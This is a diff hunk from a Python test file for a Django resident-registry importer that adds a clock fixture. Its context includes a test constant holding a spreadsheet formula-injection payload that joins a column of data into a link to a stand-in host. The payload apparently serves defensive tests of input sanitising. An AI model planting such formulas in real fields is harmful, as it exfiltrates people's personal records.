@@ -24,7 +24,7 @@ from shequ.registry.importer import import_roster, rejected_rows_xlsx
 from shequ.registry.models import Compound, Person
 from shequ.registry.services import clean_person_fields, person_update
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]
 
 # The tester's payload and OWASP's, as far as a name (at most 60 characters) or a note can carry them.
 HYPERLINK = '=HYPERLINK("http://e.x/?"&TEXTJOIN(",",1,H:H),"核对")'
